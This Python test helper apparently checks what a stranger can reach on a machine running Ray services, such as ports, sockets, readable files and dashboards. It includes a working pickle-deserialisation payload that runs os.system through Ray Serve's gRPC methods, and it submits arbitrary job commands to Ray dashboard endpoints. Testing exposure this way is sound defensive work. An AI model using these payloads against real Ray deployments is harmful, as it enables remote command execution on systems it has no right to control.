"""What somebody tries who may not: `intruder.py TARGETS`, a JSON file; prints what was reached.

Run by the tests of ports, as another user of the machine or from another address. Imports nothing
of the project, so that it sees what a stranger sees.
"""

from __future__ import annotations

import http.client
import importlib
import json
import os
import pickle
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

TIMEOUT_S = 3
OPEN_S = 60
METHODS = ("HandleRequest", "HandleRequestStreaming", "HandleRequestWithRejection")


class Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self._command,)


def unpickle(address: str, port: int, command: str) -> None:
    """Sends the payload to Ray Serve's gRPC service, in the field that is read first."""
    grpc = importlib.import_module("grpc")
    request = importlib.import_module("ray.serve.generated.serve_pb2").ASGIRequest
    data = pickle.dumps(Payload(command))
    with grpc.insecure_channel(f"{address}:{port}") as channel:
        for method in METHODS:
            call = channel.unary_unary(
                f"/ray.serve.ASGIService/{method}",
                request_serializer=request.SerializeToString,
                response_deserializer=bytes,
            )
            try:
                call(request(pickled_request_metadata=data), timeout=TIMEOUT_S)
            except grpc.RpcError:
                continue


def connects(address: str, port: int) -> bool:
    """Returns whether somebody accepts a connection."""
    try:
        socket.create_connection((address, port), TIMEOUT_S).close()
    except OSError:
        return False
    return True


def wait_for(address: str, ports: list[int]) -> None:
    """Waits for those ports that must be open: HAProxy may be about to be replaced."""
    deadline = time.monotonic() + OPEN_S
    while not all(connects(address, port) for port in ports) and time.monotonic() < deadline:
        time.sleep(0.2)


def connects_unix(path: str) -> bool:
    """Returns whether a UNIX socket accepts a connection; `@` begins an abstract one."""
    name = "\0" + path[1:] if path.startswith("@") else path
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(TIMEOUT_S)
        try:
            client.connect(name)
        except OSError:
            return False
    return True


def status(url: str, body: dict[str, Any] | None = None) -> int:
    """Returns the HTTP status of a request, 0 without an answer."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"content-type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT_S) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except (OSError, http.client.HTTPException):
        return 0


def readable(path: str) -> bool:
    """Returns whether this user can list a folder or read a file."""
    try:
        return bool(os.listdir(path)) if Path(path).is_dir() else bool(Path(path).read_bytes())
    except OSError:
        return False


def main() -> None:
    """Tries everything that the file of targets names."""
    targets = json.loads(Path(sys.argv[1]).read_text())
    address, command = targets["address"], targets["command"]
    wait_for(address, targets["open"])
    found: dict[str, Any] = {
        "ports": [port for port in targets["ports"] if connects(address, port)],
        "sockets": [path for path in targets["sockets"] if connects_unix(path)],
        "files": [path for path in targets["files"] if readable(path)],
        "jobs": {},
    }
    for port in found["ports"]:
        if port in targets["unpickle"]:
            unpickle(address, port, command)
    for port in targets["dashboards"]:
        url = f"http://{address}:{port}/api/jobs/"
        found["jobs"][str(port)] = [status(url), status(url, {"entrypoint": command})]
    print(json.dumps(found))


if __name__ == "__main__":
    main()
